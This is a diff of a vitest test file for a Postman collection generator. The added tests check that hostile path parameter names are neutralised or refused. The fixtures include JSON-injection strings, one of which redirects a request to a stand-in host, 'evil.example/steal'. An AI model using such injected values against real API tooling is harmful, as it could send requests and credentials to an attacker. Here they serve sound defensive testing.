@@ -1,7 +1,13 @@
 // The Postman collection's generator: ids as variables with Clara's examples as defaults, reads before writes,
 // and the token script next to the app's OAuth 2.0 settings. (newman runs the shipped one: postman-newman.test.ts.)
+import { readFileSync } from 'node:fs';
+import { runInNewContext } from 'node:vm';
 import { describe, expect, test } from 'vitest';
-import { renderPostman } from '../generate/postman.ts';
+
+import { sealCredentials } from '../../packages/auth/src/credentials/secrets.ts';
+import { clientCredentialsRequest } from '../../packages/auth/src/tokens/client-credentials.ts';
+import type { ClaraCredentials } from '../../packages/auth/src/credentials/types.ts';
+import { PostmanError, renderPostman } from '../generate/postman.ts';
 
 const CARD = '7b2e4d61-3a9f-4c8e-b5d2-1e0f9a8c7b6d';
 const BATCH = '1f0e9d8c-7b6a-4594-8372-6150a4b3c2d1';
@@ -72,4 +78,49 @@ describe('the Postman collection', async () => {
     expect(script).toContain("pm.collectionVariables.set('accessTokenExpiresAt'");
     expect(JSON.parse(production?.text as string).values.map((value: { key: string }) => value.key)).toEqual(['baseUrl', 'tokenUrl', 'clientId', 'clientSecret']);
   });
+});
+
+describe('hostile path parameter names and example ids', () => {
+  const hostile = (name: string, id: string) => ({
+    ...document,
+    paths: {
+      [`/v3/items/{${name}}`]: { get: { tags: ['Items'], operationId: 'getItem', parameters: [{ ...uuid(CARD), name }], responses: ok } },
+      '/v3/orders/{id}': { get: { tags: ['Items'], operationId: 'getOrder', parameters: [{ ...uuid(id), name: 'id' }], responses: ok } },
+    },
+  });
+
+  test('add no key to a request: names that are not plain letters and digits become generated ones', async () => {
+    const id = 'id" \\ {{x}}';
+    const [file] = await renderPostman(country, hostile('x","url":"evil","a":"aid', id));
+    const collection = JSON.parse(file?.text as string);
+    const [item, order] = collection.item[0].item.map((entry: { request: any }) => entry.request);
+    expect(Object.keys(item)).toEqual(Object.keys(order));
+    expect(item.url.host).toEqual(['{{baseUrl}}']);
+    expect(collection.variable.slice(2)).toEqual([
+      { key: 'exampleId1', value: CARD, type: 'string' },
+      { key: 'orderId', value: id, type: 'string' },
+    ]);
+    expect(item.url.variable[0].value).toBe('{{exampleId1}}');
+    expect(order.url.variable[0].value).toBe('{{orderId}}');
+  });
+
+  test('a path Postman would read as a request to another host is refused', async () => {
+    const error = await renderPostman(country, hostile('x","url":"https://evil.example/steal","a":"aid', CARD)).catch((caught: unknown) => caught);
+    expect(error).toBeInstanceOf(PostmanError);
+    expect((error as Error).message).toMatch(/^Postman conversion: the request "get Item" would not go to \{\{baseUrl\}\} \(its path reads as a URL of its own\): .*evil/);
+  });
+});
+
+test("the token script's Basic credentials are the SDK's, byte for byte, for an id and secret with reserved and non-ASCII characters", () => {
+  const [clientId, clientSecret] = ['id+with space/é', 'se%2Bcret+/=:ü€ &'];
+  const sent: { header: { key: string; value: string }[] }[] = [];
+  const variables: Record<string, string> = { clientId, clientSecret, tokenUrl: 'https://public-api.zz.clara.com/oauth/token' };
+  const pm = {
+    collectionVariables: { get: () => undefined, set: () => undefined },
+    variables: { get: (key: string) => variables[key], replaceIn: (text: string) => text.replace(/\{\{(\w+)\}\}/g, (_, key: string) => variables[key] ?? '') },
+    sendRequest: (request: (typeof sent)[number]) => sent.push(request),
+  };
+  runInNewContext(readFileSync(new URL('../generate/postman-token-script.js', import.meta.url), 'utf8'), { pm, btoa });
+  const credentials = sealCredentials({ clientId } as ClaraCredentials, { clientSecret, certPem: '', keyPem: '' });
+  expect(sent[0]?.header.find(({ key }) => key === 'Authorization')?.value).toBe(clientCredentialsRequest(credentials).headers.authorization);
 });
